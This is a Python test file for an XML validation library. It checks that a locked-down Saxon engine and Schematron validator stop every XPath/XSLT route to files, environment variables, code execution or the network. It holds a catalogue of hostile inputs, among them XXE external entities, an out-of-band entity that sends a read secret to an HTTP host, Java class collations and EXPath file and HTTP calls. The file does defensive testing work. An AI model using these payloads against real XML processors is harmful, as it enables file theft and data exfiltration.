"""Every way that XPath 3.1 and XSLT 3.0 have to read, list, write, run or reach out, tried by a schema of others.

Each is tried at the engine alone, which must hold without anybody looking at names, and in a schema.
"""

import os
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest

import titelei
from titelei.engine import saxon
from titelei.errors import TiteleiError
from titelei.validate.schematron import second_opinion
from titelei.xml.read import read

SECRET = "for nobody's eyes"
LISTED = "a-name-that-only-a-listing-tells"

XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
FN = "http://www.w3.org/2005/xpath-functions"
STYLESHEET = f'<xsl:stylesheet version="3.0" {XSL}>{{}}</xsl:stylesheet>'
INNER = STYLESHEET.replace('"', "'").format("<xsl:template name='m'>{}</xsl:template>")


def _parse(doctype: str, function: str = "parse-xml") -> str:
    return f"{function}('<!DOCTYPE a {doctype}><a>&x;</a>')"


EXPRESSIONS = {
    "parse-xml, external entity": _parse('[<!ENTITY x SYSTEM "{txt}">]'),
    "parse-xml, external entity over the network": _parse('[<!ENTITY x SYSTEM "{http}">]'),
    "parse-xml, external subset": _parse('SYSTEM "{dtd}"'),
    "parse-xml, external subset over the network": _parse('PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{http}"'),
    "parse-xml, parameter entity": _parse('[<!ENTITY % p SYSTEM "{dtd}">%p;]'),
    "parse-xml, parameter entity over the network": _parse('[<!ENTITY % p SYSTEM "{http}">%p;]'),
    "parse-xml, what was read is sent out": _parse(
        '[<!ENTITY % f SYSTEM "{txt}"><!ENTITY % p "<!ENTITY &#37; q SYSTEM \'\'{http}?%f;\'\'>">%p;%q;]'
    ),
    "parse-xml, attribute default": "parse-xml('<!DOCTYPE a [<!ENTITY x SYSTEM \"{txt}\">]><a b=\"1\"/>')",
    "parse-xml, XInclude": (
        "parse-xml('<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"{txt}\" parse=\"text\"/>')"
    ),
    "parse-xml by reference": "for-each('<!DOCTYPE a [<!ENTITY x SYSTEM \"{txt}\">]><a>&x;</a>', parse-xml#1)",
    "parse-xml-fragment, DOCTYPE": _parse('[<!ENTITY x SYSTEM "{txt}">]', "parse-xml-fragment"),
    "parse-xml-fragment, text declaration": "parse-xml-fragment('<?xml version=\"1.0\" encoding=\"utf-8\"?>&x;')",
    "doc": "doc('{xml}')",
    "doc, negated": "-doc('{xml}')",
    "doc, in a map": "map{{'a':doc('{xml}')}}?a",
    "doc, by its path": "doc('{path}')",
    "doc over the network": "doc('{http}')",
    "doc, data:": "doc('data:text/xml,%3Ca%3Edata%3C/a%3E') ! string()[. ne 'data']",
    "doc, jar:": "doc('jar:{xml}!/a')",
    "doc-available": "doc-available('{xml}')[.] ! '{secret}'",
    "document": "document('{xml}')",
    "unparsed-text": "unparsed-text('{txt}')",
    "unparsed-text over the network": "unparsed-text('{http}')",
    "unparsed-text-lines": "unparsed-text-lines('{txt}')",
    "unparsed-text-available": "unparsed-text-available('{txt}')[.] ! '{secret}'",
    "json-doc": "json-doc('{json}')",
    "collection": "collection('{folder}?select=*.xml;recurse=yes')",
    "collection, negated": "-collection('{folder}?select=*.xml')",
    "collection, in a map": "map{{'a':collection('{folder}?select=*.xml')}}?a",
    "collection over the network": "collection('{http}')",
    "collection, default": "collection()",
    "uri-collection": "uri-collection('{folder}')",
    "uri-collection, in a map": "map{{'a':uri-collection('{folder}')}}?a",
    "environment-variable": "environment-variable('PATH')[. ne ''] ! '{secret}'",
    "available-environment-variables": "available-environment-variables()[. = 'PATH'] ! '{secret}'",
    "system-property": "system-property('user.home')[. ne ''] ! '{secret}'",
    "function-lookup": "function-lookup(QName('{fn}', 'unparsed-text'), 1)('{txt}')",
    "apply": "apply(function-lookup(QName('{fn}', 'uri-collection'), 1), ['{folder}'])",
    "transform, its stylesheet": (
        "transform(map{{'stylesheet-location': '{http}', 'initial-template': QName('', 'm')}})"
    ),
    "transform, what it reads": (
        "transform(map{{'stylesheet-text': \"{reader}\", 'initial-template': QName('', 'm'),"
        " 'delivery-format': 'serialized'}})?output"
    ),
    "transform, what it writes": (
        "transform(map{{'stylesheet-text': \"{writer}\", 'initial-template': QName('', 'm'),"
        " 'delivery-format': 'serialized'}})?*"
    ),
    "load-xquery-module": (
        "load-xquery-module('urn:x', map{{'location-hints': '{xquery}'}})?functions(QName('urn:x', 'f'))(0)()"
    ),
    "collation by a class": "sort(('a', 'b'), 'http://saxon.sf.net/collation?class=java.lang.ProcessBuilder')",
    "Java": "Q{{java:java.lang.System}}getenv('PATH')[. ne ''] ! '{secret}'",
    "Saxon, binary": "Q{{http://saxon.sf.net/}}read-binary-resource('{txt}')",
    "Saxon, evaluate": "Q{{http://saxon.sf.net/}}evaluate('unparsed-text(''{txt}'')')",
    "Saxon, query": "Q{{http://saxon.sf.net/}}xquery('unparsed-text(\"{txt}\")')",
    "EXPath file, read": "Q{{http://expath.org/ns/file}}read-text('{path}')",
    "EXPath file, list": "Q{{http://expath.org/ns/file}}list('{folder}')",
    "EXPath file, write": "Q{{http://expath.org/ns/file}}write('{written}', 'x')",
    "EXPath HTTP": "Q{{http://expath.org/ns/http-client}}send-request((), '{http}')",
    "XPath 4, binary": "Q{{{fn}}}unparsed-binary('{txt}')",
}  # fmt: skip

INSTRUCTIONS = {
    "xsl:result-document": '<xsl:result-document href="{written}"><a/></xsl:result-document>',
    "xsl:source-document": '<xsl:source-document href="{xml}"><xsl:value-of select="."/></xsl:source-document>',
    "xsl:source-document, streamed": (
        '<xsl:source-document streamable="yes" href="{xml}"><xsl:value-of select="."/></xsl:source-document>'
    ),
    "xsl:evaluate": "<xsl:evaluate xpath=\"'unpar' || 'sed-text(''{txt}'')'\"/>",
    "xsl:merge": (
        '<xsl:merge><xsl:merge-source for-each-source="\'{xml}\'" select="s"><xsl:merge-key select="."/>'
        '</xsl:merge-source><xsl:merge-action><xsl:value-of select="."/></xsl:merge-action></xsl:merge>'
    ),
    "shadow attribute": "<xsl:sequence _select=\"{{'unpar'}}sed-text('{txt}')\"/>",
    "text value template": "<xsl:value-of expand-text=\"yes\">{{unparsed-text('{txt}')}}</xsl:value-of>",
    "attribute value template": "<e a=\"{{unparsed-text('{txt}')}}\"/>",
    "use-when": "<xsl:value-of use-when=\"unparsed-text-available('{txt}')\" select=\"'{secret}'\"/>",
    "namespace": '<xsl:namespace name="a" select="unparsed-text(\'{txt}\')"/>',
}

DECLARATIONS = {
    "xsl:include": '<xsl:include href="{xslt}"/>',
    "xsl:import": '<xsl:import href="{xslt}"/>',
    "xsl:include over the network": '<xsl:include href="{http}"/>',
    "xsl:import-schema": '<xsl:import-schema schema-location="{http}"/>',
    "xsl:use-package": '<xsl:use-package name="{http}"/>',
    "static variable": '<xsl:variable name="told" static="yes" select="unparsed-text(\'{txt}\')"/>',
    "xsl:output": '<xsl:output parameter-document="{xml}"/>',
}


@dataclass
class Outside:
    """Files, a server and an environment that a schema shall not reach, and what it has reached."""

    folder: Path
    http: str
    asked: list[str] = field(default_factory=list)

    def fill(self, text: str) -> str:
        files = {"txt": "s.txt", "xml": "s.xml", "json": "s.json", "dtd": "s.dtd", "xslt": "s.xsl", "xquery": "s.xq"}
        addresses = {key: (self.folder / name).as_uri() for key, name in files.items()}
        return text.format(
            **addresses,
            http=self.http,
            folder=self.folder.as_uri() + "/",
            path=self.folder / "s.xml",
            written=(self.folder / "written.xml").as_uri(),
            secret=SECRET.replace("'", "''"),
            fn=FN,
            reader=INNER.format(f"<xsl:value-of select='unparsed-text(&quot;&quot;{addresses['txt']}&quot;&quot;)'/>"),
            writer=INNER.format(f"<xsl:result-document href='{self.folder.as_uri()}/written.xml'/>"),
        )

    def is_untouched_by(self, said: str) -> None:
        """Fail where something got out, was listed, written, or asked for."""
        assert SECRET not in said
        assert LISTED not in said
        assert not (self.folder / "written.xml").exists()
        assert self.asked == []


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(SECRET.encode())

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as http:
        threading.Thread(target=http.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{http.server_port}/x", asked
        http.shutdown()


@pytest.fixture
def outside(tmp_path: Path, server: tuple[str, list[str]]) -> Outside:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / LISTED).touch()
    for name, text in {
        "s.txt": SECRET,
        "s.xml": f"<s>{SECRET}</s>",
        "s.json": f'"{SECRET}"',
        "s.dtd": f'<!ENTITY x "{SECRET}">',
        "s.xq": f'module namespace m = "urn:x"; declare function m:f() {{ "{SECRET}" }};',
        "s.xsl": STYLESHEET.format(f'<xsl:variable name="told" select="&quot;{SECRET}&quot;"/>'),
    }.items():
        (folder / name).write_text(text, "utf-8")
    server[1].clear()
    return Outside(folder, *server)


@pytest.fixture(scope="module")
def engine() -> saxon.Sealed:
    return saxon.Sealed()


def _at_the_engine(engine: saxon.Sealed, body: str, head: str = "") -> str:
    """What comes of a stylesheet that only Saxon's configuration holds back: its result, or its error."""
    text = STYLESHEET.format(f'{head}<xsl:template match="/"><r>{body}</r></xsl:template>')
    try:
        return engine.stylesheet(text, "s").transform(engine.parse("<r/>"))
    except (TiteleiError, saxon.TransformError) as error:
        return str(error)


def _in_a_schema(folder: Path, message: str, head: str = "") -> str:
    (folder / "own").mkdir()
    schema, document = folder / "own" / "s.sch", folder / "own" / "d.xml"
    schema.write_text(
        f'<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron" {XSL} queryBinding="xslt3">'
        f'<sch:ns prefix="f" uri="urn:f"/>{head}<sch:pattern><sch:rule context="r"><sch:report test="true()">{message}'
        "</sch:report></sch:rule></sch:pattern></sch:schema>",
        "utf-8",
    )
    document.write_text("<r/>", "utf-8")
    try:
        return titelei.schematron(schema, document)
    except TiteleiError as error:
        return str(error)


def _value(expression: str) -> str:
    return f"<xsl:value-of select={quoteattr(expression)}/>"


def test_the_tries_would_succeed_where_nothing_is_closed(outside: Outside, tmp_path: Path) -> None:
    tries = (
        "doc",
        "parse-xml, external entity",
        "parse-xml, parameter entity",
        "unparsed-text",
        "environment-variable",
    )
    for name in tries:
        body = _value(outside.fill(EXPRESSIONS[name]))
        stylesheet = tmp_path / f"{name}.xsl"
        stylesheet.write_text(STYLESHEET.format(f'<xsl:template match="/"><r>{body}</r></xsl:template>'))
        assert SECRET in saxon.stylesheet(stylesheet).transform(saxon.parse("<r/>")), name


@pytest.mark.parametrize("name", EXPRESSIONS)
def test_no_expression_gets_out(name: str, outside: Outside, engine: saxon.Sealed, tmp_path: Path) -> None:
    expression = outside.fill(EXPRESSIONS[name])
    outside.is_untouched_by(_at_the_engine(engine, _value(expression)))
    outside.is_untouched_by(_in_a_schema(tmp_path, f"<sch:value-of select={quoteattr(expression)}/>"))


@pytest.mark.parametrize("name", INSTRUCTIONS)
def test_no_instruction_gets_out(name: str, outside: Outside, engine: saxon.Sealed, tmp_path: Path) -> None:
    body = outside.fill(INSTRUCTIONS[name])
    outside.is_untouched_by(_at_the_engine(engine, body))
    function = f'<xsl:function name="f:f">{body}</xsl:function>'
    outside.is_untouched_by(_in_a_schema(tmp_path, '<sch:value-of select="f:f()"/>', function))


@pytest.mark.parametrize("name", DECLARATIONS)
def test_no_declaration_gets_out(name: str, outside: Outside, engine: saxon.Sealed, tmp_path: Path) -> None:
    head = outside.fill(DECLARATIONS[name])
    outside.is_untouched_by(_at_the_engine(engine, '<xsl:value-of select="$told"/>', head))
    outside.is_untouched_by(_in_a_schema(tmp_path, '<sch:value-of select="$told"/>', head))


@pytest.mark.parametrize("name", EXPRESSIONS)
def test_a_schema_that_imports_a_stylesheet_gets_no_further(name: str, outside: Outside, tmp_path: Path) -> None:
    own = saxon.Sealed(imports=True)
    library = tmp_path / "l.xsl"
    library.write_text(STYLESHEET.format(""), "utf-8")
    head = f'<xsl:include href="{library.as_uri()}"/>'
    outside.is_untouched_by(_at_the_engine(own, _value(outside.fill(EXPRESSIONS[name])), head))


@pytest.mark.parametrize(
    "name",
    [n for n in EXPRESSIONS if n.startswith(("parse-xml", "doc", "unparsed", "json", "uri", "coll", "env", "av"))],
)
def test_no_expression_gets_out_of_the_second_engine(name: str, outside: Outside, tmp_path: Path) -> None:
    _in_a_schema(tmp_path, f"<sch:value-of select={quoteattr(outside.fill(EXPRESSIONS[name]))}/>")
    try:
        own = tmp_path / "own"
        said = second_opinion.run(own / "s.sch", read(own / "d.xml", edition=False)).xml
    except TiteleiError as error:
        said = str(error)
    outside.is_untouched_by(said)


def test_a_doctype_given_to_parse_xml_is_told_in_words(outside: Outside, tmp_path: Path) -> None:
    said = _in_a_schema(tmp_path, f"<sch:value-of select={quoteattr(outside.fill(_parse('[]')))}/>")
    assert "what parse-xml() is given has a DOCTYPE, which is not read" in said
    assert "s.sch line 1" in said
    assert os.sep + "xerces" not in said
